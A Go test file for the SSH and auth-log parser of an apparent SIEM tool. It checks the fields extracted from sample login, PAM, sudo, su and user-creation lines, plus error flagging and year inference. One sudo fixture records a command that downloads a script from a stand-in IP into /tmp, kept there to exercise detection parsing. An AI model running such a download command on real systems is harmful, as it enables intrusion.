package sshd

import (
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/vigil-siem/vigil/collectors/parsers"
	"github.com/vigil-siem/vigil/event"
)

// ref is a reference time after every test line, in the same year.
var ref = time.Date(2025, 12, 31, 0, 0, 0, 0, time.UTC)

func parseOne(line string) event.Event {
	return New(Config{Reference: ref}).Parse(parsers.Source{Name: "auth.log", Offset: 0}, []byte(line))
}

// f is a shorthand for the fields a case expects; absent lists fields that
// must not be set.
type f = map[string]any

func TestParseLineShapes(t *testing.T) {
	auth := []any{"authentication"}
	session := []any{"session"}
	cases := []struct {
		name   string
		line   string
		want   f
		absent []string
	}{
		{
			name: "failed password",
			line: "Dec 10 07:13:43 LabSZ sshd[24227]: Failed password for root from 5.36.59.76 port 42393 ssh2",
			want: f{"@timestamp": "2025-12-10T07:13:43.000Z", "event.kind": "event", "event.dataset": "system.auth",
				"event.module": "system", "host.name": "LabSZ", "process.name": "sshd", "process.pid": int64(24227),
				"event.category": auth, "event.type": []any{"start"}, "event.action": "ssh_login",
				"event.outcome": "failure", "user.name": "root", "source.ip": "5.36.59.76", "source.port": int64(42393),
				FieldMethod: "password", "related.ip": []any{"5.36.59.76"}, "related.user": []any{"root"},
				"message": "Failed password for root from 5.36.59.76 port 42393 ssh2"},
		},
		{
			name: "failed password for invalid user",
			line: "Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2",
			want: f{"event.action": "ssh_login", "event.outcome": "failure", "user.name": "webmaster", "source.ip": "173.234.31.186"},
		},
		{
			name: "failed none, empty user name",
			line: "Dec 10 08:24:40 LabSZ sshd[24363]: Failed none for invalid user  from 5.188.10.180 port 49811 ssh2",
			want: f{"event.action": "ssh_login", "user.name": "", FieldMethod: "none", "source.ip": "5.188.10.180"},
		},
		{
			name: "failed publickey, user name holding ' from '",
			line: "Dec 10 08:24:40 LabSZ sshd[24363]: Failed publickey for invalid user a from 10.0.0.1 port 1 ssh2 from 192.0.2.9 port 2222 ssh2",
			want: f{"event.action": "ssh_login", "user.name": "a from 10.0.0.1 port 1 ssh2", "source.ip": "192.0.2.9", "source.port": int64(2222), FieldMethod: "publickey"},
		},
		{
			name: "accepted publickey with key",
			line: "Feb 21 21:54:44 localhost sshd[3402]: Accepted publickey for vagrant from 10.0.2.2 port 63673 ssh2: RSA 39:33:99:e9:a0:dc:f2:33",
			want: f{"event.action": "ssh_login", "event.outcome": "success", "user.name": "vagrant", "source.ip": "10.0.2.2",
				"source.port": int64(63673), FieldMethod: "publickey", "event.category": auth},
		},
		{
			name: "accepted keyboard-interactive, sshd-session, IPv6",
			line: "Mar  3 10:00:00 web-01 sshd-session[77]: Accepted keyboard-interactive/pam for bob from 2001:db8::7 port 50022 ssh2",
			want: f{"event.action": "ssh_login", "event.outcome": "success", "user.name": "bob", "source.ip": "2001:db8::7",
				FieldMethod: "keyboard-interactive/pam", "process.name": "sshd-session", "@timestamp": "2025-03-03T10:00:00.000Z"},
		},
		{
			name: "accepted from a host name (UseDNS)",
			line: "Mar  3 10:00:00 web-01 sshd[77]: Accepted password for bob from gw.example.org port 50022 ssh2",
			want: f{"event.action": "ssh_login", "source.domain": "gw.example.org"}, absent: []string{"source.ip", "related.ip"},
		},
		{
			name: "invalid user",
			line: "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
			want: f{"event.action": "ssh_invalid_user", "event.outcome": "failure", "event.category": auth,
				"user.name": "webmaster", "source.ip": "173.234.31.186"},
			absent: []string{"source.port"},
		},
		{
			name: "invalid user with port",
			line: "Dec 10 06:55:46 web-01 sshd[24200]: Invalid user oracle from 203.0.113.45 port 40022",
			want: f{"event.action": "ssh_invalid_user", "user.name": "oracle", "source.ip": "203.0.113.45", "source.port": int64(40022)},
		},
		{
			name: "input_userauth_request",
			line: "Dec 10 06:55:46 LabSZ sshd[24200]: input_userauth_request: invalid user webmaster [preauth]",
			want: f{"event.action": "ssh_invalid_user", "event.outcome": "failure", "user.name": "webmaster"},
		},
		{
			name: "message repeated",
			line: "Dec 10 07:13:56 LabSZ sshd[24227]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]",
			want: f{"event.action": "ssh_login", "event.outcome": "failure", "user.name": "root", "source.ip": "5.36.59.76",
				"source.port": int64(42393), event.FieldRepeat: int64(5),
				"message": "message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]"},
		},
		{
			name: "pam authentication failure with user",
			line: "Dec 10 07:08:28 LabSZ sshd[24208]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=112.95.230.3  user=root",
			want: f{"event.action": "pam_authentication_failure", "event.outcome": "failure", "event.category": auth,
				"source.ip": "112.95.230.3", "user.name": "root"},
		},
		{
			name:   "pam authentication failure, rhost is a host name",
			line:   "Dec 10 07:13:31 LabSZ sshd[24227]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.36.59.76.dynamic-dsl-ip.omantel.net.om  user=root",
			want:   f{"event.action": "pam_authentication_failure", "source.domain": "5.36.59.76.dynamic-dsl-ip.omantel.net.om", "user.name": "root"},
			absent: []string{"source.ip"},
		},
		{
			name: "PAM N more authentication failures",
			line: "Feb 22 16:45:26 slave22 sshd[2738]: PAM 4 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=202.109.143.106  user=root",
			want: f{"event.action": "pam_authentication_failure", event.FieldRepeat: int64(4), "source.ip": "202.109.143.106", "user.name": "root"},
		},
		{
			name:   "PAM 1 more authentication failure",
			line:   "Dec 10 08:26:04 LabSZ sshd[24375]: PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.188.10.180",
			want:   f{"event.action": "pam_authentication_failure", event.FieldRepeat: int64(1), "source.ip": "5.188.10.180"},
			absent: []string{"user.name"},
		},
		{
			name: "pam check pass user unknown",
			line: "Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): check pass; user unknown",
			want: f{"event.action": "pam_user_unknown", "event.outcome": "failure"},
		},
		{
			name: "old Red Hat pam tag",
			line: "Jul  1 00:21:28 combo sshd(pam_unix)[19630]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=60.30.224.116  user=root",
			want: f{"event.action": "pam_authentication_failure", "process.name": "sshd", "process.pid": int64(19630),
				"source.ip": "60.30.224.116", "user.name": "root", "@timestamp": "2025-07-01T00:21:28.000Z"},
		},
		{
			name: "su pam session opened",
			line: "Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)",
			want: f{"event.action": "session_opened", "event.category": session, "event.type": []any{"start"},
				"user.name": "cyrus", "process.name": "su"},
		},
		{
			name: "sshd session closed",
			line: "Dec 10 09:45:06 LabSZ sshd[24680]: pam_unix(sshd:session): session closed for user fztu",
			want: f{"event.action": "session_closed", "event.type": []any{"end"}, "user.name": "fztu"},
		},
		{
			name: "newer sudo session opened",
			line: "Dec 10 10:00:00 web-01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
			want: f{"event.action": "session_opened", "user.name": "root", "process.name": "sudo"},
		},
		{
			name:   "sudo pam auth failure",
			line:   "Jun  2 19:08:43 host.name sudo[654321]: pam_unix(sudo:auth): authentication failure; logname=bob uid=1117 euid=0 tty=/dev/pts/1 ruser=alice rhost= user=root",
			want:   f{"event.action": "pam_authentication_failure", "user.name": "root", "related.user": []any{"alice", "root"}},
			absent: []string{"source.ip", "source.domain"},
		},
		{
			name: "received disconnect, old form",
			line: "Dec 10 07:07:45 LabSZ sshd[24206]: Received disconnect from 52.80.34.196: 11: Bye Bye [preauth]",
			want: f{"event.action": "ssh_disconnect", "event.category": session, "event.type": []any{"end"},
				"source.ip": "52.80.34.196", "event.reason": "Bye Bye"},
		},
		{
			name: "received disconnect, new form",
			line: "Dec 10 07:07:45 web-01 sshd[24206]: Received disconnect from 10.20.0.15 port 50212:11: disconnected by user",
			want: f{"event.action": "ssh_disconnect", "source.ip": "10.20.0.15", "source.port": int64(50212), "event.reason": "disconnected by user"},
		},
		{
			name: "error: received disconnect",
			line: "Dec 10 07:51:15 LabSZ sshd[24324]: error: Received disconnect from 195.154.37.122: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]",
			want: f{"event.action": "ssh_disconnect", "source.ip": "195.154.37.122"},
		},
		{
			name: "disconnected from user",
			line: "Dec 10 07:07:45 web-01 sshd[24206]: Disconnected from user alice 10.20.0.15 port 50212",
			want: f{"event.action": "ssh_disconnect", "user.name": "alice", "source.ip": "10.20.0.15", "source.port": int64(50212)},
		},
		{
			name: "disconnected from invalid user",
			line: "Dec 10 07:07:45 web-01 sshd[24206]: Disconnected from invalid user oracle 203.0.113.45 port 50212 [preauth]",
			want: f{"event.action": "ssh_disconnect", "user.name": "oracle", "source.ip": "203.0.113.45"},
		},
		{
			name:   "connection closed preauth",
			line:   "Dec 10 06:55:48 LabSZ sshd[24200]: Connection closed by 173.234.31.186 [preauth]",
			want:   f{"event.action": "ssh_disconnect", "source.ip": "173.234.31.186"},
			absent: []string{"source.port", "user.name"},
		},
		{
			name: "connection closed by authenticating user",
			line: "Dec 10 06:55:48 web-01 sshd[24200]: Connection closed by authenticating user root 203.0.113.45 port 41000 [preauth]",
			want: f{"event.action": "ssh_disconnect", "user.name": "root", "source.ip": "203.0.113.45", "source.port": int64(41000)},
		},
		{
			name: "too many authentication failures",
			line: "Dec 10 07:13:56 LabSZ sshd[24227]: Disconnecting: Too many authentication failures for root [preauth]",
			want: f{"event.action": "ssh_too_many_auth_failures", "event.outcome": "failure", "event.category": session, "user.name": "root"},
		},
		{
			name: "too many authentication failures, newer form",
			line: "Dec 10 07:13:56 web-01 sshd[24227]: Disconnecting invalid user admin 203.0.113.45 port 5022: Too many authentication failures [preauth]",
			want: f{"event.action": "ssh_too_many_auth_failures", "user.name": "admin", "source.ip": "203.0.113.45"},
		},
		{
			name: "maximum authentication attempts exceeded",
			line: "Dec 10 07:13:56 web-01 sshd[24227]: error: maximum authentication attempts exceeded for root from 203.0.113.45 port 5022 ssh2 [preauth]",
			want: f{"event.action": "ssh_too_many_auth_failures", "user.name": "root", "source.ip": "203.0.113.45", "source.port": int64(5022)},
		},
		{
			name: "no identification string",
			line: "Dec 10 07:34:33 LabSZ sshd[24301]: Did not receive identification string from 123.235.32.19",
			want: f{"event.action": "ssh_no_identification", "source.ip": "123.235.32.19", "event.category": []any{"network"}},
		},
		{
			name: "reverse mapping",
			line: "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
			want: f{"event.action": "ssh_reverse_mapping_failed", "source.ip": "173.234.31.186", "source.domain": "ns.marryaldkfaczcz.com"},
		},
		{
			name: "sudo command",
			line: "Dec 10 10:00:00 web-01 sudo[4242]: deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/wget -q http://198.51.100.23/x.sh -O /tmp/x.sh",
			want: f{"event.action": "sudo", "event.outcome": "success", "event.category": []any{"process"}, "event.type": []any{"start"},
				"user.name": "deploy", "user.effective.name": "root", "process.working_directory": "/home/deploy",
				"process.command_line": "/usr/bin/wget -q http://198.51.100.23/x.sh -O /tmp/x.sh",
				"process.executable":   "/usr/bin/wget", "process.name": "wget", "process.parent.name": "sudo",
				"process.parent.pid": int64(4242), "related.user": []any{"deploy", "root"}},
			absent: []string{"process.pid"},
		},
		{
			name: "sudo user NOT in sudoers",
			line: "Feb 24 00:13:02 precise32 sudo:      tsg : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/ls",
			want: f{"event.action": "sudo", "event.outcome": "failure", "user.name": "tsg", "event.reason": "user NOT in sudoers",
				"process.command_line": "/bin/ls"},
		},
		{
			name: "sudo incorrect password attempts, command with ' ; '",
			line: "Dec 10 10:00:00 web-01 sudo: bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c echo a ; echo b",
			want: f{"event.action": "sudo", "event.outcome": "failure", "user.name": "bob", "process.command_line": "/bin/sh -c echo a ; echo b"},
		},
		{
			name: "su to root",
			line: "Dec 10 10:00:00 web-01 su[99]: (to root) alice on pts/0",
			want: f{"event.action": "su", "event.outcome": "success", "user.name": "alice", "user.effective.name": "root"},
		},
		{
			name: "su failed",
			line: "Dec 10 10:00:00 web-01 su[99]: FAILED su for root by mallory",
			want: f{"event.action": "su", "event.outcome": "failure", "user.name": "mallory", "user.effective.name": "root"},
		},
		{
			name: "useradd",
			line: "Feb 22 11:47:05 localhost useradd[6995]: new user: name=apache, UID=48, GID=48, home=/usr/share/httpd, shell=/sbin/nologin",
			want: f{"event.action": "user_created", "event.category": []any{"iam"}, "event.type": []any{"user", "creation"},
				"user.name": "apache", "user.id": "48"},
		},
		{
			name: "groupadd",
			line: "Feb 22 11:47:05 localhost groupadd[6991]: new group: name=apache, GID=48",
			want: f{"event.action": "group_created", "event.type": []any{"group", "creation"}, "group.name": "apache", "group.id": "48"},
		},
		{
			name: "usermod add to group",
			line: "Dec 10 10:00:00 web-01 usermod[3131]: add 'deploy' to group 'sudo'",
			want: f{"event.action": "user_added_to_group", "event.type": []any{"group", "change"}, "user.name": "deploy", "group.name": "sudo"},
		},
		{
			name:   "cron line is a plain event",
			line:   "Dec 10 10:17:01 web-01 CRON[5151]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
			want:   f{"event.kind": "event", "process.name": "CRON", "message": "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"},
			absent: []string{"event.category", "event.action", "vigil.parse_error"},
		},
		{
			name:   "sshd fatal is a plain event",
			line:   "Dec 10 11:03:53 LabSZ sshd[25457]: fatal: Write failed: Connection reset by peer [preauth]",
			want:   f{"event.kind": "event", "process.name": "sshd"},
			absent: []string{"event.category", "event.action"},
		},
		{
			name: "tag without pid and colon-less tag",
			line: "Jun 19 04:09:11 combo syslogd 1.4.1: restart.",
			want: f{"event.kind": "event", "host.name": "combo", "process.name": "syslogd", "message": "1.4.1: restart."},
		},
		{
			name:   "no host (local forwarder)",
			line:   "Dec 10 10:00:00 sshd[12]: Server listening on 0.0.0.0 port 22.",
			want:   f{"process.name": "sshd", "process.pid": int64(12)},
			absent: []string{"host.name"},
		},
		{
			name: "priority prefix and CRLF",
			line: "<38>Dec  5 01:02:03 web-01 sshd[1]: Invalid user test from 192.0.2.1\r\n",
			want: f{"@timestamp": "2025-12-05T01:02:03.000Z", "event.action": "ssh_invalid_user", "source.ip": "192.0.2.1",
				"event.original": "<38>Dec  5 01:02:03 web-01 sshd[1]: Invalid user test from 192.0.2.1"},
		},
		{
			name: "RFC 3339 timestamp (Ubuntu 24.04 rsyslog)",
			line: "2024-03-01T10:00:00.123456+01:00 web-01 sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2",
			want: f{"@timestamp": "2024-03-01T09:00:00.123Z", "host.name": "web-01", "event.action": "ssh_login"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := parseOne(tc.line)
			if e["event.kind"] == parsers.KindPipelineError {
				t.Fatalf("line was flagged: %v", e[event.FieldParseError])
			}
			for k, want := range tc.want {
				if got := e[k]; !reflect.DeepEqual(got, want) {
					t.Errorf("%s = %#v, want %#v", k, got, want)
				}
			}
			for _, k := range tc.absent {
				if v, ok := e[k]; ok {
					t.Errorf("%s = %#v, want it absent", k, v)
				}
			}
			if e.ID() == "" {
				t.Error("vigil.event_id is missing")
			}
			if _, ok := tc.want["event.original"]; !ok && e[event.FieldOriginal] != strings.TrimRight(tc.line, "\r\n") {
				t.Errorf("event.original = %q", e[event.FieldOriginal])
			}
		})
	}
}

func TestParseFlagsLinesThatAreNotSyslog(t *testing.T) {
	cases := []struct{ name, line, reason string }{
		{"empty", "", "empty line"},
		{"garbage", "hello world", "missing timestamp"},
		{"binary", "\x00\x01\x02\xff\xfe", "missing timestamp"},
		{"bad day", "Dec 99 06:55:46 LabSZ sshd[1]: x", "invalid timestamp"},
		{"bad hour", "Dec 10 25:55:46 LabSZ sshd[1]: x", "invalid timestamp"},
		{"truncated timestamp", "Dec 10 06:5", "invalid timestamp"},
		{"timestamp only", "Dec 10 06:55:46", "missing host"},
		{"month-like word", "Decimal 10 06:55:46 host x: y", "invalid timestamp"},
		{"bad RFC 3339", "2024-13-45T99:00:00Z web-01 sshd[1]: x", "invalid timestamp"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			src := parsers.Source{Name: "/var/log/auth.log", Offset: 4096}
			e := New(Config{Reference: ref}).Parse(src, []byte(tc.line))
			if e["event.kind"] != parsers.KindPipelineError {
				t.Fatalf("event.kind = %v, want pipeline_error", e["event.kind"])
			}
			if r := e.String(event.FieldParseError); !strings.Contains(r, tc.reason) {
				t.Errorf("vigil.parse_error = %q, want it to say %q", r, tc.reason)
			}
			if e[event.FieldOriginal] != tc.line {
				t.Errorf("event.original = %q, want the line", e[event.FieldOriginal])
			}
			if !reflect.DeepEqual(e["tags"], []any{parsers.TagParseFailure}) {
				t.Errorf("tags = %v", e["tags"])
			}
			if e.ID() != event.MakeID(src.Name, src.Offset, []byte(tc.line)) {
				t.Errorf("vigil.event_id = %q, not derived from source and line", e.ID())
			}
		})
	}
}

func TestEventIDDependsOnSourceAndOffset(t *testing.T) {
	line := []byte("Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186")
	p := New(Config{Reference: ref})
	a := p.Parse(parsers.Source{Name: "a.log", Offset: 0}, line).ID()
	again := p.Parse(parsers.Source{Name: "a.log", Offset: 0}, line).ID()
	other := p.Parse(parsers.Source{Name: "a.log", Offset: 81}, line).ID()
	if a != again {
		t.Errorf("same line at the same place got ids %s and %s", a, again)
	}
	if a == other {
		t.Errorf("same line at another offset got the same id %s", a)
	}
}

func TestYearInference(t *testing.T) {
	cases := []struct {
		name  string
		ref   time.Time
		loc   *time.Location
		lines []string // timestamps only
		want  []string
	}{
		{
			name:  "same year as the reference",
			ref:   time.Date(2026, 12, 11, 0, 0, 0, 0, time.UTC),
			lines: []string{"Dec 10 06:55:46"},
			want:  []string{"2026-12-10T06:55:46.000Z"},
		},
		{
			name:  "December log read in January is last year's",
			ref:   time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC),
			lines: []string{"Dec 10 06:55:46"},
			want:  []string{"2025-12-10T06:55:46.000Z"},
		},
		{
			name:  "up to two days ahead of the reference (clock skew) stays in its year",
			ref:   time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC),
			lines: []string{"Jan  6 12:00:00"},
			want:  []string{"2026-01-06T12:00:00.000Z"},
		},
		{
			name:  "more than two days ahead is last year's",
			ref:   time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC),
			lines: []string{"Jan  8 00:00:00"},
			want:  []string{"2025-01-08T00:00:00.000Z"},
		},
		{
			name:  "stream crosses new year",
			ref:   time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC),
			lines: []string{"Dec 30 23:00:00", "Dec 31 23:59:59", "Jan  1 00:00:01", "Jan  1 08:00:00"},
			want:  []string{"2025-12-30T23:00:00.000Z", "2025-12-31T23:59:59.000Z", "2026-01-01T00:00:01.000Z", "2026-01-01T08:00:00.000Z"},
		},
		{
			name:  "small steps back stay in the year",
			ref:   time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC),
			lines: []string{"Dec 10 10:00:05", "Dec 10 10:00:03", "Nov 30 10:00:00"},
			want:  []string{"2026-12-10T10:00:05.000Z", "2026-12-10T10:00:03.000Z", "2026-11-30T10:00:00.000Z"},
		},
		{
			name:  "sparse log jumps forward within the year",
			ref:   time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC),
			lines: []string{"Jan  3 10:00:00", "Oct  3 10:00:00"},
			want:  []string{"2026-01-03T10:00:00.000Z", "2026-10-03T10:00:00.000Z"},
		},
		{
			name:  "zone from Config.Location",
			ref:   time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC),
			loc:   time.FixedZone("CET", 3600),
			lines: []string{"Dec 10 06:55:46"},
			want:  []string{"2026-12-10T05:55:46.000Z"},
		},
		{
			name:  "fractional seconds",
			ref:   time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC),
			lines: []string{"Dec 10 06:55:46.250"},
			want:  []string{"2026-12-10T06:55:46.250Z"},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p := New(Config{Reference: tc.ref, Location: tc.loc})
			for i, ts := range tc.lines {
				e := p.Parse(parsers.Source{Name: "x", Offset: int64(i)}, []byte(ts+" host sshd[1]: hello"))
				if got := e[event.FieldTimestamp]; got != tc.want[i] {
					t.Errorf("line %d (%s): @timestamp = %v, want %s", i, ts, got, tc.want[i])
				}
			}
		})
	}
}
